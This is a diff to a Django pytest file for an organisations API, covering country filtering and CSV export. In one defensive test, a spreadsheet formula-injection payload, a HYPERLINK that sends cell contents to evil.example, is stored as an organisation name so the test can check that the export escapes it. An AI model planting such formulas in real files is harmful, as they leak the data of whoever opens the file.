@@ -7,6 +7,7 @@ import io
 
 import pytest
 
+from coalition.lib.tests.helpers import body
 from coalition.members.tests.factories import OrganisationFactory, SeatFactory, SupporterFactory
 
 pytestmark = pytest.mark.django_db
@@ -34,7 +35,7 @@ def test_the_api_filters_by_country_and_finds_one_organisation_by_slug(client):
     OrganisationFactory(name="Alpha Aid", slug="alpha-aid", country="NO")
     OrganisationFactory(name="Beta Relief", slug="beta-relief", country="LB")
 
-    names = [row["name"] for row in client.get("/api/v1/organisations/?country=lb").json()["results"]]
+    names = [row["name"] for row in client.get("/api/v1/organisations/?country=LB").json()["results"]]
     assert names == ["Beta Relief"]
     assert client.get("/api/v1/organisations/alpha-aid/").json()["name"] == "Alpha Aid"
 
@@ -45,7 +46,7 @@ def test_the_api_answers_csv(client):
     response = client.get("/api/v1/organisations/?format=csv")
 
     assert response["Content-Type"].startswith("text/csv")
-    header, row = response.text.strip().splitlines()
+    header, row = body(response).strip().splitlines()
     assert header.startswith("slug,name,type,country")
     assert row.startswith("alpha-aid,Alpha Aid,ngo,NO")
 
@@ -67,14 +68,14 @@ def test_the_csv_download_holds_every_organisation_not_only_the_first_page(clien
 
     response = client.get("/api/v1/organisations/?format=csv")
 
-    assert len(response.text.strip().splitlines()) == 1 + 101
+    assert len(body(response).strip().splitlines()) == 1 + 101
 
 
 def test_a_name_typed_as_a_formula_reaches_the_csv_as_text(client):
     # An editor can rename their organisation; whoever opens the open-data CSV must not run it.
     OrganisationFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', slug="formula", city="@SUM(1)")
 
-    row = list(csv.DictReader(io.StringIO(client.get("/api/v1/organisations/?format=csv").text.lstrip("\ufeff"))))[0]
+    row = list(csv.DictReader(io.StringIO(body(client.get("/api/v1/organisations/?format=csv")).lstrip("\ufeff"))))[0]
 
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
     assert row["city"] == "'@SUM(1)"
